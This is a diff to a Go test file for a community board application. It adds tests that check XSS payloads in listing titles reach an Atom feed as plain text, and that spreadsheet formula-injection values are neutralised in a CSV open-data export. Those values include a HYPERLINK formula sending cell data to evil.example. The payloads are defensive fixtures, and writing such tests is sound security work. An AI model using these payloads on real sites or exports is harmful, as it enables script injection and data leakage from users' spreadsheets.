@@ -13,10 +13,13 @@ import (
 	"testing"
 	"time"
 
+	"github.com/mmcdole/gofeed/atom"
+
 	"teilhabe.org/teilhabe/internal/apptest"
 	"teilhabe.org/teilhabe/internal/auth"
 	"teilhabe.org/teilhabe/internal/board"
 	"teilhabe.org/teilhabe/internal/clock"
+	"teilhabe.org/teilhabe/internal/feed/feedtest"
 	"teilhabe.org/teilhabe/internal/search"
 	"teilhabe.org/teilhabe/internal/searchdoc"
 )
@@ -222,6 +225,35 @@ func TestPage(t *testing.T) {
 	})
 }
 
+// TestFeedKeepsMarkupAsText: whatever people put in a title or text
+// reaches the Atom feed as text that a feed reader shows, never as markup
+// it runs.
+func TestFeedKeepsMarkupAsText(t *testing.T) {
+	e := apptest.New(t, "sqlite")
+	title := `<script>alert(1)</script> Fahrrad <img src=x onerror="alert(2)">`
+	put(t, e, searchdoc.Doc{Type: "offer", ID: "x", Title: title, Lang: "de",
+		Body: `javascript:alert(3) <b>Fahrrad</b> reparieren <a href="javascript:alert(4)">hier</a>`})
+	res := e.Client(t).Get("/search?q=Fahrrad&format=atom")
+	feedtest.TextOnly(t, res.Body)
+	apptest.Lacks(t, "feed", res.Body, "<script", "<img", "<b>", "<a ")
+	got, err := (&atom.Parser{}).Parse(strings.NewReader(res.Body))
+	if err != nil || len(got.Entries) != 1 {
+		t.Fatalf("%v\n%s", err, res.Body)
+	}
+	entry := got.Entries[0]
+	if entry.Title != title || !strings.Contains(entry.Summary, "<b>Fahrrad</b>") || !strings.Contains(entry.Summary, "javascript:alert(3)") {
+		t.Errorf("entry %q: %q", entry.Title, entry.Summary)
+	}
+	links := map[string]string{}
+	for _, l := range got.Links {
+		links[l.Rel] = l.Href
+	}
+	if links["self"] != e.URL+"/search?format=atom&q=Fahrrad&sort=newest" || links["alternate"] != e.URL+"/search?q=Fahrrad&sort=newest" ||
+		len(got.Authors) != 1 || got.Language != "de" || entry.PublishedParsed == nil {
+		t.Errorf("feed: %v %+v %q %+v", links, got.Authors, got.Language, entry)
+	}
+}
+
 // TestDatesOfHits: a listing for a range of days shows the range, in the
 // days it was typed with; one for a day shows that day without an hour.
 func TestDatesOfHits(t *testing.T) {
@@ -279,7 +311,7 @@ func TestOpenData(t *testing.T) {
 			t.Errorf("changes: %v", items)
 		}
 		status, raw := e.APIRaw(t, "", http.MethodGet, "/api/v1/opendata/opportunities?format=csv", nil)
-		rows, err := csv.NewReader(strings.NewReader(string(raw))).ReadAll()
+		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(raw), "\uFEFF"))).ReadAll()
 		if status != http.StatusOK || err != nil || len(rows) != 3 || rows[0][0] != "id" || rows[1][1] != "true" {
 			t.Errorf("csv: %d %v %v", status, err, rows)
 		}
@@ -290,6 +322,31 @@ func TestOpenData(t *testing.T) {
 			t.Errorf("OpenAPI lacks the operations")
 		}
 	})
+}
+
+// TestOpenDataCSVHasNoFormulas: a title that a spreadsheet would run
+// reaches the open data CSV as text; a negative coordinate stays a number.
+func TestOpenDataCSVHasNoFormulas(t *testing.T) {
+	e := apptest.New(t, "sqlite")
+	hyperlink := `=HYPERLINK("https://evil.example/?"&A1,"Details")`
+	lat, lon := 51.5, -0.5
+	put(t, e, searchdoc.Doc{Type: "opportunity", ID: "o1", Title: hyperlink, Body: "@SUM(1+1)", Lang: "de",
+		Place: "+Kassel", Lat: &lat, Lon: &lon})
+	status, raw := e.APIRaw(t, "", http.MethodGet, "/api/v1/opendata/opportunities?format=csv", nil)
+	if status != http.StatusOK || !strings.HasPrefix(string(raw), "\uFEFFid,") || !strings.Contains(string(raw), "\r\n") {
+		t.Fatalf("%d %q", status, raw)
+	}
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(raw), "\uFEFF"))).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%v %q", err, rows)
+	}
+	cell := map[string]string{}
+	for i, name := range rows[0] {
+		cell[name] = rows[1][i]
+	}
+	if cell["title"] != "'"+hyperlink || cell["description"] != "'@SUM(1+1)" || cell["place"] != "'+Kassel" || cell["lon"] != "-0.5" {
+		t.Errorf("cells: %q", cell)
+	}
 }
 
 // TestListingsAreFound: the board's listings are found from the moment
